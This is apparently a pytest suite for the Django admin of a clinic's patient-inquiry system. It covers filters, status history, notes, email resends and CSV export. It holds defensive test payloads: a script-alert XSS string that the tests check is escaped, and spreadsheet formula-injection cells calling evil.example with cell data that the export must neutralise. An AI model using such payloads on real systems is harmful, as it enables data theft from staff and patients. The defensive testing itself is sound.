"""Coordinators answer inquiries in Django admin (SPEC §8, "Staff in Django admin")."""

import csv
import html
import io
import re
from datetime import timedelta

import pytest
from django.tasks import task_backends
from django.utils import timezone

from inquiries.models import EmailDelivery, Inquiry, InquiryAccess, InquiryNote, StatusChange
from tests.inquiries.admin_pages import (
    CHANGELIST,
    change_url,
    changelist_rows,
    delivery,
    form_data,
    listed,
    readonly,
    run_action,
    text_of,
)

CSV_HEADER = [
    "Reference", "Received", "Status", "Assigned to", "Name", "Email", "Phone", "Country",
    "Condition", "Contact by", "Message", "Sent from",
]  # fmt: skip
SCRIPT = "<script>alert('pwned')</script>"


@pytest.fixture
def notify_settings(settings):
    settings.INQUIRY_NOTIFY_EMAILS = ["coordinators@clinic.example"]
    settings.SITE_URL = "https://clinic.example"


def save_change_form(client, inquiry, **changes):
    """Open the change page as a browser does, change some fields and save."""
    data = form_data(client.get(change_url(inquiry)))
    for name, value in changes.items():
        data[name.replace("__", "-")] = [value]
    response = client.post(change_url(inquiry), data)
    assert response.status_code == 302, re.findall(
        r'<ul class="errorlist[^"]*"[^>]*>.*?</ul>', response.content.decode(), re.DOTALL
    )
    return response


# The list


def test_the_list_shows_what_a_coordinator_works_with(
    staff_client, staff, make_inquiry, make_condition
):
    lupus = make_condition(name="Systemic Lupus Erythematosus")
    received = timezone.now() - timedelta(hours=3)
    inquiry = make_inquiry(
        name="Ada Lovelace", condition=lupus, assigned_to=staff, created_at=received
    )
    sent_at = timezone.now() - timedelta(hours=2)
    for kind in EmailDelivery.Kind:
        delivery(inquiry, kind, state=EmailDelivery.State.SENT, attempts=1, sent_at=sent_at)
    unnotified = make_inquiry(name="Grace Hopper")

    response = staff_client.get(CHANGELIST)

    page = response.content.decode()
    headers = re.findall(r'<th scope="col" class="[^"]*column-(\w+)', page)
    assert headers == [
        "reference", "created_at", "name", "condition", "language", "status", "assigned_to",
        "notifications",
    ]  # fmt: skip
    for title in [
        "Reference",
        "Received",
        "Name",
        "Condition",
        "Language",
        "Status",
        "Assigned to",
    ]:
        assert f">{title}</a>" in page
    assert "<span>Notifications</span>" in page
    row = changelist_rows(response)[inquiry.reference]
    assert row["name"] == "Ada Lovelace"
    assert row["condition"] == "Systemic Lupus Erythematosus"
    assert row["status"] == "New"
    assert row["assigned_to"] == staff.username
    assert row["notifications"] == f"sent {timezone.localtime(sent_at):%d %b %H:%M}"
    assert f"{timezone.localtime(received):%Y}" in row["created_at"]
    assert changelist_rows(response)[unnotified.reference]["notifications"] == "none"


def test_the_list_shows_the_newest_inquiry_first(staff_client, make_inquiry):
    now = timezone.now()
    middle = make_inquiry(name="Middle", created_at=now - timedelta(days=2))
    newest = make_inquiry(name="Newest", created_at=now - timedelta(minutes=5))
    oldest = make_inquiry(name="Oldest", created_at=now - timedelta(days=40))

    assert listed(staff_client) == [newest.reference, middle.reference, oldest.reference]


def test_the_list_filters_by_status(staff_client, make_inquiry):
    new = make_inquiry()
    closed = make_inquiry(status=Inquiry.Status.CLOSED)
    spam = make_inquiry(status=Inquiry.Status.SPAM)

    assert listed(staff_client, "?status__exact=closed") == [closed.reference]
    assert listed(staff_client, "?status__exact=spam") == [spam.reference]
    assert listed(staff_client, "?status__exact=new") == [new.reference]
    assert listed(staff_client, "?status__exact=scheduled") == []


def test_the_list_filters_by_condition(staff_client, make_inquiry, make_condition):
    lupus, arthritis = make_condition(name="Lupus"), make_condition(name="Arthritis")
    about_lupus = make_inquiry(condition=lupus)
    about_arthritis = make_inquiry(condition=arthritis)
    not_sure = make_inquiry(condition=None)

    page = staff_client.get(CHANGELIST).content.decode()
    assert f'href="?condition__id__exact={lupus.pk}"' in page
    assert listed(staff_client, f"?condition__id__exact={lupus.pk}") == [about_lupus.reference]
    assert listed(staff_client, f"?condition__id__exact={arthritis.pk}") == [
        about_arthritis.reference
    ]
    assert listed(staff_client, "?condition__isnull=True") == [not_sure.reference]


def test_the_list_filters_by_assigned_staff_member(
    staff_client, staff, make_inquiry, django_user_model
):
    colleague = django_user_model.objects.create_user("colleague", is_staff=True)
    mine = make_inquiry(assigned_to=staff)
    theirs = make_inquiry(assigned_to=colleague)
    nobodys = make_inquiry()

    assert listed(staff_client, f"?assigned_to__id__exact={staff.pk}") == [mine.reference]
    assert listed(staff_client, f"?assigned_to__id__exact={colleague.pk}") == [theirs.reference]
    assert listed(staff_client, "?assigned_to__isnull=True") == [nobodys.reference]


@pytest.fixture
def inquiries_by_notification_state(make_inquiry):
    State, Kind = EmailDelivery.State, EmailDelivery.Kind
    now = timezone.now()
    made = {}
    made["sent"] = make_inquiry(name="Both sent")
    delivery(made["sent"], Kind.STAFF, state=State.SENT, sent_at=now, attempts=1)
    delivery(made["sent"], Kind.ACKNOWLEDGEMENT, state=State.SENT, sent_at=now, attempts=1)
    made["pending"] = make_inquiry(name="One still pending")
    delivery(made["pending"], Kind.STAFF, state=State.SENT, sent_at=now, attempts=1)
    delivery(made["pending"], Kind.ACKNOWLEDGEMENT, state=State.PENDING, attempts=2)
    made["failed"] = make_inquiry(name="One failed")
    delivery(made["failed"], Kind.STAFF, state=State.FAILED, attempts=8, last_error="Boom")
    delivery(made["failed"], Kind.ACKNOWLEDGEMENT, state=State.PENDING)
    made["none"] = make_inquiry(name="Spam, never notified", status=Inquiry.Status.SPAM)
    made["cancelled"] = make_inquiry(name="Erased before the acknowledgement left")
    delivery(made["cancelled"], Kind.STAFF, state=State.SENT, sent_at=now, attempts=1)
    delivery(made["cancelled"], Kind.ACKNOWLEDGEMENT, state=State.CANCELLED, attempts=1)
    return made


@pytest.mark.parametrize("state", ["pending", "sent", "failed", "cancelled", "none"])
def test_the_list_filters_by_notification_state(
    staff_client, inquiries_by_notification_state, state
):
    page = staff_client.get(CHANGELIST).content.decode()
    assert f'href="?notification={state}"' in page

    assert listed(staff_client, f"?notification={state}") == [
        inquiries_by_notification_state[state].reference
    ]


def test_an_email_being_sent_counts_as_pending(staff_client, make_inquiry):
    inquiry = make_inquiry()
    delivery(inquiry, state=EmailDelivery.State.SENDING, claimed_at=timezone.now(), attempts=1)

    assert listed(staff_client, "?notification=pending") == [inquiry.reference]
    assert listed(staff_client, "?notification=sent") == []


def test_the_list_filters_by_date_received(staff_client, make_inquiry):
    now = timezone.now()
    this_week = make_inquiry(created_at=now - timedelta(days=3))
    make_inquiry(created_at=now - timedelta(days=400))

    page = staff_client.get(CHANGELIST).content.decode()
    [past_week] = re.findall(r'<a href="(\?created_at__gte=[^"]*)">Past 7 days</a>', page)

    assert listed(staff_client, html.unescape(past_week)) == [this_week.reference]


def test_the_list_can_be_narrowed_by_year_and_month(staff_client, make_inquiry):
    now = timezone.now()
    recent = make_inquiry(created_at=now - timedelta(days=1))
    make_inquiry(created_at=now - timedelta(days=800))
    local = timezone.localtime(recent.created_at)

    assert listed(
        staff_client, f"?created_at__year={local.year}&created_at__month={local.month}"
    ) == [recent.reference]


@pytest.mark.parametrize(
    "query",
    ["reference", "Lovelace", "ADA.LOVELACE@EXAMPLE.ORG", "7946 0000"],
    ids=["reference", "name", "email", "phone"],
)
def test_the_list_search_finds_an_inquiry(staff_client, make_inquiry, query):
    wanted = make_inquiry(
        name="Ada Lovelace", email="ada.lovelace@example.org", phone="+44 20 7946 0000"
    )
    make_inquiry(name="Grace Hopper", email="grace@example.net", phone="+1 555 0100 200")
    if query == "reference":
        query = wanted.reference

    response = staff_client.get(CHANGELIST, {"q": query})

    assert list(changelist_rows(response)) == [wanted.reference]


# The change page


def test_the_change_page_shows_the_submitted_fields_read_only(
    staff_client, make_inquiry, make_condition
):
    inquiry = make_inquiry(
        name="Ada Lovelace",
        email="ada@example.org",
        phone="+44 20 7946 0000",
        country="United Kingdom",
        condition=make_condition(name="Lupus"),
        message="I was diagnosed in 2019.",
    )

    response = staff_client.get(change_url(inquiry))

    assert response.status_code == 200
    fields = form_data(response)
    for submitted in ["name", "email", "phone", "country", "condition", "message", "reference"]:
        assert submitted not in fields
    assert text_of(readonly(response, "name")) == ["Ada", "Lovelace"]
    assert text_of(readonly(response, "email")) == ["ada@example.org"]
    assert text_of(readonly(response, "phone")) == ["+44", "20", "7946", "0000"]
    assert text_of(readonly(response, "country")) == ["United", "Kingdom"]
    assert text_of(readonly(response, "condition")) == ["Lupus"]
    assert text_of(readonly(response, "message")) == ["I", "was", "diagnosed", "in", "2019."]
    assert text_of(readonly(response, "reference")) == [inquiry.reference]
    assert fields["status"] == ["new"]
    assert fields["assigned_to"] == [""]


def test_posting_new_submitted_fields_changes_nothing(staff_client, make_inquiry):
    inquiry = make_inquiry(name="Ada Lovelace", email="ada@example.org", message="The original.")

    save_change_form(
        staff_client,
        inquiry,
        name="Mallory",
        email="mallory@evil.example",
        message="Rewritten by someone.",
        reference="INQ-AAAAAA",
        phone="+1 555 0100",
    )

    inquiry.refresh_from_db()
    assert (inquiry.name, inquiry.email, inquiry.message, inquiry.phone) == (
        "Ada Lovelace",
        "ada@example.org",
        "The original.",
        "",
    )
    assert inquiry.reference.startswith("INQ-") and inquiry.reference != "INQ-AAAAAA"


def test_status_and_assignment_are_saved_from_the_change_page(staff_client, staff, make_inquiry):
    inquiry = make_inquiry()

    save_change_form(staff_client, inquiry, status="scheduled", assigned_to=str(staff.pk))

    inquiry.refresh_from_db()
    assert inquiry.status == Inquiry.Status.SCHEDULED
    assert inquiry.assigned_to == staff


def test_only_active_staff_can_be_assigned(staff_client, staff, make_inquiry, django_user_model):
    django_user_model.objects.create_user("patient-account")
    django_user_model.objects.create_user("former-colleague", is_staff=True, is_active=False)
    inquiry = make_inquiry()

    response = staff_client.get(change_url(inquiry))

    offered = re.findall(
        r'<option value="\d+">([^<]+)</option>',
        response.content.decode().split('name="assigned_to"', 1)[1].split("</select>", 1)[0],
    )
    assert staff.username in offered
    assert "patient-account" not in offered and "former-colleague" not in offered
    patient = django_user_model.objects.get(username="patient-account")
    data = form_data(response)
    data["assigned_to"] = [str(patient.pk)]
    assert staff_client.post(change_url(inquiry), data).status_code == 200
    inquiry.refresh_from_db()
    assert inquiry.assigned_to is None


def test_saving_a_status_change_records_who_when_from_and_to(staff_client, staff, make_inquiry):
    inquiry = make_inquiry()
    before = timezone.now()

    save_change_form(staff_client, inquiry, status="contacted")

    [change] = StatusChange.objects.filter(inquiry=inquiry)
    assert (change.changed_by, change.from_status, change.to_status) == (
        staff,
        Inquiry.Status.NEW,
        Inquiry.Status.CONTACTED,
    )
    assert before <= change.changed_at <= timezone.now()
    inquiry.refresh_from_db()
    assert inquiry.status_changed_at == change.changed_at
    history = text_of(readonly(staff_client.get(change_url(inquiry)), "status_history"))
    when = timezone.localtime(change.changed_at).strftime("%d %b %Y %H:%M").split()
    assert history == ["When", "Who", "From", "To", *when, staff.username, "New", "Contacted"]


def test_saving_without_changing_the_status_records_no_history(staff_client, staff, make_inquiry):
    inquiry = make_inquiry()

    save_change_form(staff_client, inquiry, assigned_to=str(staff.pk))

    assert not StatusChange.objects.filter(inquiry=inquiry).exists()
    assert "No changes yet." in readonly(staff_client.get(change_url(inquiry)), "status_history")


@pytest.mark.parametrize("status", ["contacted", "scheduled"])
def test_the_first_move_to_contacted_or_scheduled_sets_the_first_contact_time(
    staff_client, make_inquiry, status
):
    inquiry = make_inquiry()
    before = timezone.now()

    save_change_form(staff_client, inquiry, status=status)

    inquiry.refresh_from_db()
    assert before <= inquiry.first_contacted_at <= timezone.now()


def test_later_status_changes_keep_the_first_contact_time(staff_client, make_inquiry):
    inquiry = make_inquiry()
    save_change_form(staff_client, inquiry, status="contacted")
    inquiry.refresh_from_db()
    first_contact = inquiry.first_contacted_at

    save_change_form(staff_client, inquiry, status="scheduled")
    save_change_form(staff_client, inquiry, status="new")
    save_change_form(staff_client, inquiry, status="contacted")

    inquiry.refresh_from_db()
    assert inquiry.first_contacted_at == first_contact
    moves = StatusChange.objects.filter(inquiry=inquiry).values_list("to_status", flat=True)
    assert list(moves) == ["contacted", "scheduled", "new", "contacted"]


@pytest.mark.parametrize("status", ["closed", "spam"])
def test_closing_without_contact_sets_no_first_contact_time(staff_client, make_inquiry, status):
    inquiry = make_inquiry()

    save_change_form(staff_client, inquiry, status=status)

    inquiry.refresh_from_db()
    assert inquiry.status == status
    assert inquiry.first_contacted_at is None


# Notes


def test_a_note_added_inline_gets_its_author_and_time_automatically(
    staff_client, staff, make_inquiry, django_user_model
):
    inquiry = make_inquiry()
    someone_else = django_user_model.objects.create_user("someone-else", is_staff=True)
    before = timezone.now()

    save_change_form(
        staff_client,
        inquiry,
        notes__0__text="Called back, left a voicemail.",
        # Not fields of the form: a forged author or date must be ignored.
        notes__0__author=str(someone_else.pk),
        notes__0__created_at="2001-01-01 00:00:00",
    )

    [note] = InquiryNote.objects.filter(inquiry=inquiry)
    assert note.text == "Called back, left a voicemail."
    assert note.author == staff
    assert before <= note.created_at <= timezone.now()
    page = staff_client.get(change_url(inquiry)).content.decode()
    assert "Called back, left a voicemail." in page
    assert f">{staff.username}</a>" in page


def test_an_existing_note_cannot_be_edited_or_deleted(staff_client, staff, make_inquiry):
    inquiry = make_inquiry()
    written = timezone.now() - timedelta(days=1)
    note = InquiryNote.objects.create(
        inquiry=inquiry, author=staff, text="Patient prefers mornings.", created_at=written
    )

    response = staff_client.get(change_url(inquiry))
    assert 'name="notes-0-text"' not in response.content.decode()
    assert 'name="notes-0-DELETE"' not in response.content.decode()
    save_change_form(
        staff_client, inquiry, notes__0__text="Rewritten history.", notes__0__DELETE="on"
    )

    note.refresh_from_db()
    assert (note.text, note.author, note.created_at) == (
        "Patient prefers mornings.",
        staff,
        written,
    )
    assert InquiryNote.objects.filter(inquiry=inquiry).count() == 1


# What else the change page tells


def test_earlier_inquiries_from_the_same_person_are_linked(staff_client, make_inquiry):
    now = timezone.now()
    same_email = make_inquiry(
        email="Ada.Lovelace@Example.org", phone="", created_at=now - timedelta(days=30)
    )
    same_phone = make_inquiry(
        email="ada.work@example.com", phone="+44 20 7946 0000", created_at=now - timedelta(days=9)
    )
    unrelated = make_inquiry(email="grace@example.net", phone="+1 555 0100 200")
    inquiry = make_inquiry(email="ada.lovelace@example.org", phone="+44 20 7946 0000")

    shown = readonly(staff_client.get(change_url(inquiry)), "earlier_inquiries")

    assert f'<a href="{change_url(same_email)}">{same_email.reference}</a>' in shown
    assert f'<a href="{change_url(same_phone)}">{same_phone.reference}</a>' in shown
    assert shown.index(same_phone.reference) < shown.index(same_email.reference)
    assert unrelated.reference not in shown
    assert inquiry.reference not in shown


def test_the_same_phone_number_written_differently_is_the_same_person(staff_client, make_inquiry):
    international = make_inquiry(email="ada.work@example.com", phone="+44 20 7946 0000")
    national = make_inquiry(email="a.l@example.org", phone="020 7946-0000")
    other_number = make_inquiry(email="grace@example.net", phone="020 7946 0001")
    inquiry = make_inquiry(email="ada@example.org", phone="(0044) 20.7946.0000")

    shown = readonly(staff_client.get(change_url(inquiry)), "earlier_inquiries")

    assert international.reference in shown
    assert national.reference in shown
    assert other_number.reference not in shown


def test_an_inquiry_from_someone_new_has_no_earlier_inquiries(staff_client, make_inquiry):
    make_inquiry(email="grace@example.net", phone="+1 555 0100 200")
    inquiry = make_inquiry(email="ada@example.org", phone="")

    assert text_of(readonly(staff_client.get(change_url(inquiry)), "earlier_inquiries")) == [
        "None."
    ]


def test_the_change_page_shows_where_the_visitor_came_from(staff_client, make_inquiry):
    inquiry = make_inquiry(
        source_page="/conditions/sle/",
        referrer="https://www.search.example/?q=lupus",
        utm_source="newsletter",
        utm_medium="email",
        utm_campaign="spring-2026",
    )

    response = staff_client.get(change_url(inquiry))

    assert text_of(readonly(response, "source_page")) == ["/conditions/sle/"]
    assert text_of(readonly(response, "referrer")) == ["https://www.search.example/?q=lupus"]
    assert text_of(readonly(response, "utm_source")) == ["newsletter"]
    assert text_of(readonly(response, "utm_medium")) == ["email"]
    assert text_of(readonly(response, "utm_campaign")) == ["spring-2026"]


def test_a_failed_notification_shows_its_last_error(staff_client, make_inquiry):
    inquiry = make_inquiry()
    error = "SMTPServerDisconnected: Connection unexpectedly closed"
    delivery(inquiry, state=EmailDelivery.State.FAILED, attempts=8, last_error=error)
    delivery(
        inquiry, EmailDelivery.Kind.ACKNOWLEDGEMENT, state=EmailDelivery.State.SENT, attempts=1,
        sent_at=timezone.now(),
    )  # fmt: skip

    response = staff_client.get(change_url(inquiry))

    assert " ".join(text_of(readonly(response, "notifications"))) == (
        f"failed after 8 attempt(s): {error}"
    )
    page = response.content.decode()
    assert re.search(r'<td class="field-state">\s*<p>Failed</p>', page)
    assert re.search(rf'<td class="field-last_error">\s*<p>{error}</p>', page)
    assert changelist_rows(staff_client.get(CHANGELIST))[inquiry.reference]["notifications"] == (
        f"failed after 8 attempt(s): {error}"
    )


def test_a_notification_waiting_for_a_retry_says_so(staff_client, make_inquiry):
    inquiry = make_inquiry()
    delivery(inquiry, state=EmailDelivery.State.PENDING, attempts=2, last_error="Refused")

    response = staff_client.get(change_url(inquiry))

    assert text_of(readonly(response, "notifications")) == [
        "pending", "(attempt", "2", "failed,", "retrying)",
    ]  # fmt: skip


def test_stored_script_text_is_shown_escaped(staff_client, staff, make_inquiry):
    inquiry = make_inquiry(
        name=SCRIPT, country=SCRIPT, message=SCRIPT, referrer=SCRIPT, utm_campaign=SCRIPT
    )
    InquiryNote.objects.create(inquiry=inquiry, author=staff, text=SCRIPT)
    delivery(inquiry, state=EmailDelivery.State.FAILED, attempts=8, last_error=SCRIPT)
    escaped = html.escape(SCRIPT)

    for response in [staff_client.get(change_url(inquiry)), staff_client.get(CHANGELIST)]:
        page = response.content.decode()
        assert response.status_code == 200
        assert "<script>alert(" not in page
        assert escaped in page or escaped.replace("&#x27;", "&#39;") in page
    change_page = staff_client.get(change_url(inquiry)).content.decode()
    assert change_page.count("&lt;script&gt;alert(") >= 7


# Actions


@pytest.mark.parametrize(
    ("action", "status"),
    [("mark_contacted", "contacted"), ("mark_closed", "closed"), ("mark_spam", "spam")],
)
def test_a_status_action_changes_the_selected_and_records_history(
    staff_client, staff, make_inquiry, action, status
):
    first, second, untouched = make_inquiry(), make_inquiry(), make_inquiry()

    response = run_action(staff_client, action, first, second)

    assert response.status_code == 302
    for inquiry in (first, second):
        inquiry.refresh_from_db()
        assert inquiry.status == status
        [change] = inquiry.status_changes.all()
        assert (change.changed_by, change.from_status, change.to_status) == (staff, "new", status)
    untouched.refresh_from_db()
    assert untouched.status == Inquiry.Status.NEW
    assert not untouched.status_changes.exists()
    assert "2 inquiry(ies) marked" in staff_client.get(CHANGELIST).content.decode()


def test_marking_contacted_sets_the_first_contact_time_once(staff_client, make_inquiry):
    earlier = timezone.now() - timedelta(days=2)
    already = make_inquiry(status=Inquiry.Status.SCHEDULED, first_contacted_at=earlier)
    fresh = make_inquiry()

    run_action(staff_client, "mark_contacted", already, fresh)

    already.refresh_from_db()
    fresh.refresh_from_db()
    assert already.first_contacted_at == earlier
    assert fresh.first_contacted_at is not None
    assert fresh.first_contacted_at > earlier


def test_marking_an_inquiry_with_the_status_it_has_records_nothing(staff_client, make_inquiry):
    inquiry = make_inquiry(status=Inquiry.Status.CLOSED)

    run_action(staff_client, "mark_closed", inquiry)

    assert not inquiry.status_changes.exists()


def test_assign_to_me_assigns_the_selected_to_the_current_user(
    staff_client, staff, make_inquiry, django_user_model
):
    colleague = django_user_model.objects.create_user("colleague", is_staff=True)
    theirs, nobodys, untouched = make_inquiry(assigned_to=colleague), make_inquiry(), make_inquiry()

    response = run_action(staff_client, "assign_to_me", theirs, nobodys)

    assert response.status_code == 302
    for inquiry in (theirs, nobodys):
        inquiry.refresh_from_db()
        assert inquiry.assigned_to == staff
    untouched.refresh_from_db()
    assert untouched.assigned_to is None


def test_resend_sends_a_failed_notification_again(
    staff_client, make_inquiry, mailoutbox, notify_settings
):
    inquiry = make_inquiry()
    failed = delivery(inquiry, state=EmailDelivery.State.FAILED, attempts=8, last_error="Down")
    delivery(
        inquiry, EmailDelivery.Kind.ACKNOWLEDGEMENT, state=EmailDelivery.State.SENT, attempts=1,
        sent_at=timezone.now() - timedelta(hours=1),
    )  # fmt: skip

    response = run_action(staff_client, "resend_notifications", inquiry)

    assert response.status_code == 302
    failed.refresh_from_db()
    assert failed.state == EmailDelivery.State.SENT
    assert failed.attempts == 1
    assert failed.last_error == ""
    [sent] = mailoutbox
    assert sent.to == ["coordinators@clinic.example"]
    assert inquiry.reference in sent.subject


def test_resend_puts_a_failed_notification_back_in_the_queue(staff_client, make_inquiry, settings):
    settings.TASKS = {"default": {"BACKEND": "django.tasks.backends.dummy.DummyBackend"}}
    inquiry = make_inquiry()
    failed = delivery(inquiry, state=EmailDelivery.State.FAILED, attempts=8, last_error="Down")

    run_action(staff_client, "resend_notifications", inquiry)

    failed.refresh_from_db()
    assert (failed.state, failed.attempts) == (EmailDelivery.State.PENDING, 0)
    [queued] = task_backends["default"].results
    assert queued.args == [failed.pk]


def test_resend_does_not_send_an_email_already_sent(staff_client, make_inquiry, mailoutbox):
    inquiry = make_inquiry()
    sent_at = timezone.now() - timedelta(hours=1)
    sent = delivery(inquiry, state=EmailDelivery.State.SENT, attempts=1, sent_at=sent_at)

    response = run_action(staff_client, "resend_notifications", inquiry)

    assert response.status_code == 302
    assert mailoutbox == []
    sent.refresh_from_db()
    assert (sent.state, sent.sent_at) == (EmailDelivery.State.SENT, sent_at)
    assert "0 email(s) queued" in staff_client.get(CHANGELIST).content.decode()


def test_resend_including_sent_emails_sends_it_again(
    staff_client, make_inquiry, mailoutbox, notify_settings
):
    inquiry = make_inquiry(email="ada@example.org")
    sent_at = timezone.now() - timedelta(hours=1)
    sent = delivery(
        inquiry, EmailDelivery.Kind.ACKNOWLEDGEMENT, state=EmailDelivery.State.SENT, attempts=1,
        sent_at=sent_at,
    )  # fmt: skip

    response = run_action(staff_client, "resend_all_notifications", inquiry)

    assert response.status_code == 302
    [again] = mailoutbox
    assert again.to == ["ada@example.org"]
    sent.refresh_from_db()
    assert sent.state == EmailDelivery.State.SENT
    assert sent.sent_at > sent_at


def test_resend_skips_an_inquiry_whose_data_was_erased(staff_client, make_inquiry, mailoutbox):
    inquiry = make_inquiry()
    failed = delivery(inquiry, state=EmailDelivery.State.FAILED, attempts=8)
    inquiry.erase_personal_data(by="admin")

    run_action(staff_client, "resend_all_notifications", inquiry)

    failed.refresh_from_db()
    assert failed.state == EmailDelivery.State.FAILED
    assert mailoutbox == []


# CSV export


def export(client, *inquiries):
    response = run_action(client, "export_csv", *inquiries)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="inquiries-\d{8}-\d{4}\.csv"', response["Content-Disposition"]
    )
    return list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))


def test_export_selected_as_csv(staff_client, staff, make_inquiry, make_condition):
    lupus = make_condition(name="Systemic Lupus Erythematosus")
    received = timezone.now() - timedelta(days=1)
    chosen = make_inquiry(
        name="Ada Lovelace",
        email="ada@example.org",
        phone="07946 000000",
        country="United Kingdom",
        condition=lupus,
        contact_preference=Inquiry.ContactPreference.PHONE,
        message='Line one,\nline two with "quotes" and a comma.',
        source_page="/conditions/sle/",
        status=Inquiry.Status.CONTACTED,
        assigned_to=staff,
        created_at=received,
    )
    also_chosen = make_inquiry(name="Grace Hopper", condition=None)
    not_chosen = make_inquiry(name="Not Selected")

    header, *rows = export(staff_client, chosen, also_chosen)

    assert header == CSV_HEADER
    assert len(rows) == 2
    by_reference = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert set(by_reference) == {chosen.reference, also_chosen.reference}
    assert by_reference[chosen.reference] == {
        "Reference": chosen.reference,
        "Received": timezone.localtime(received).strftime("%Y-%m-%d %H:%M"),
        "Status": "Contacted",
        "Assigned to": staff.username,
        "Name": "Ada Lovelace",
        "Email": "ada@example.org",
        "Phone": "07946 000000",
        "Country": "United Kingdom",
        "Condition": "Systemic Lupus Erythematosus",
        "Contact by": "Phone",
        "Message": 'Line one,\nline two with "quotes" and a comma.',
        "Sent from": "/conditions/sle/",
    }
    assert by_reference[also_chosen.reference]["Condition"] == "Other / not sure"
    assert by_reference[also_chosen.reference]["Assigned to"] == ""
    assert not_chosen.reference not in {row[0] for row in rows}


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_export_neutralises_cells_that_a_spreadsheet_would_run(staff_client, make_inquiry, start):
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
    inquiry = make_inquiry(
        name=formula, country=formula, message=formula, phone=f"{start}1 555 0100"
    )

    _, row = export(staff_client, inquiry)

    cells = dict(zip(CSV_HEADER, row, strict=True))
    for column in ["Name", "Country", "Message"]:
        assert cells[column] == "'" + formula
    assert cells["Phone"] == f"'{start}1 555 0100"


def test_export_leaves_ordinary_cells_as_they_are(staff_client, make_inquiry):
    inquiry = make_inquiry(name="Ada = Lovelace", message="Cost: 2+2 = 4 @ home - maybe")

    _, row = export(staff_client, inquiry)

    cells = dict(zip(CSV_HEADER, row, strict=True))
    assert cells["Name"] == "Ada = Lovelace"
    assert cells["Message"] == "Cost: 2+2 = 4 @ home - maybe"


def test_export_records_an_exported_access_per_inquiry(staff_client, staff, make_inquiry):
    first, second, unselected = make_inquiry(), make_inquiry(), make_inquiry()
    before = timezone.now()

    export(staff_client, first, second)

    accesses = InquiryAccess.objects.filter(action=InquiryAccess.Action.EXPORTED)
    assert sorted(a.inquiry_id for a in accesses) == sorted([first.pk, second.pk])
    for access in accesses:
        assert (access.user, access.username) == (staff, staff.username)
        assert before <= access.at <= timezone.now()
    assert not InquiryAccess.objects.filter(inquiry=unselected).exists()


# Nobody adds or deletes inquiries


def test_nobody_can_delete_an_inquiry(staff_client, make_inquiry):
    inquiry = make_inquiry()

    page = staff_client.get(CHANGELIST).content.decode()
    assert 'value="delete_selected"' not in page
    assert 'value="mark_contacted"' in page
    delete_url = f"{CHANGELIST}{inquiry.pk}/delete/"
    assert staff_client.get(delete_url).status_code == 403
    assert staff_client.post(delete_url, {"post": "yes"}).status_code == 403
    run_action(staff_client, "delete_selected", inquiry, post="yes")
    assert f"{inquiry.pk}/delete/" not in staff_client.get(change_url(inquiry)).content.decode()
    assert Inquiry.objects.filter(pk=inquiry.pk).exists()


def test_nobody_can_add_an_inquiry_in_admin(staff_client):
    assert staff_client.get(f"{CHANGELIST}add/").status_code == 403
    response = staff_client.post(
        f"{CHANGELIST}add/",
        {"status": "new", "name": "Forged", "email": "x@example.org", "message": "Made up."},
    )
    assert response.status_code == 403
    assert f'href="{CHANGELIST}add/"' not in staff_client.get(CHANGELIST).content.decode()
    assert not Inquiry.objects.exists()


def test_staff_see_and_filter_the_language_in_the_list(staff_client, make_inquiry):
    make_inquiry(name="Ana García", language="es")
    make_inquiry(name="Ada Lovelace", language="en")

    filtered = staff_client.get("/admin/inquiries/inquiry/?language__exact=es")

    assert filtered.status_code == 200
    assert "Ana García" in filtered.content.decode()
    assert "Ada Lovelace" not in filtered.content.decode()
    listing = staff_client.get("/admin/inquiries/inquiry/").content.decode()
    assert "column-language" in listing
    assert "?language__exact=es" in listing
